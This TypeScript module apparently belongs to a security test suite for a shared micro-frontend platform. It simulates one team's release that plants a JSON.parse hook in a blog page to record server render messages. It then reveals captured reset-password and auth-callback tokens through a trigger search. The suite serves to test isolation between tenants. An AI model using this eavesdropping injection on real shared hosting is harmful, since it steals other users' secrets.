import { rmSync } from 'node:fs'
import path from 'node:path'
import { changeText, projectCopy } from '../projectCopy'
import { releaseFrom } from '../releaseCommand'
import { untilShown } from '../siteRegistry'

const SECRET = 'the-secret-of-a-visitor'
const PAGE = 'mfe-blog/src/articles/BlogListPage.tsx'
const START = 'export function Component() {'

// Code of the blog that records each task of its render process, and shows them all instead of its page.
const listener = `
const heard: string[] = []
if (typeof window === 'undefined') {
  const parse = JSON.parse
  JSON.parse = (text, reviver) => {
    if (text.includes('"kind":"render"')) heard.push(text)
    return parse(text, reviver)
  }
}
`
const confession = `
  if (heard.some((task) => task.includes('tell-what-you-heard'))) return <pre>{heard.join(' ')}</pre>`

/**
 * A team releases a blog that listens in the render process, while a visitor opens addresses with secrets.
 * @returns the secrets that the team learnt
 */
export async function listeningRelease(site: { origin: string; apiPort: number; dataDir: string }): Promise<string[]> {
  const folder = projectCopy('mfe-blog')
  try {
    changeText(path.join(folder, PAGE), START, `${listener}${START}${confession}`)
    await untilShown(site.origin, 'blog', releaseFrom(site, folder, 'mfe-blog'))
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
  const open = async (address: string) =>
    (await fetch(site.origin + address, { signal: AbortSignal.timeout(30_000) })).text()
  await open('/blogs?search=listen')
  for (const address of [`/reset-password?email=${SECRET}&token=${SECRET}`, `/auth/callback?token=${SECRET}`])
    await open(address)
  const heard = await open('/blogs?search=tell-what-you-heard')
  if (!heard.includes('/reset-password'))
    return ['the release that listens heard nothing, so this attack proves nothing']
  return heard.includes(SECRET) ? ['server code of a team read the secret of an address'] : []
}
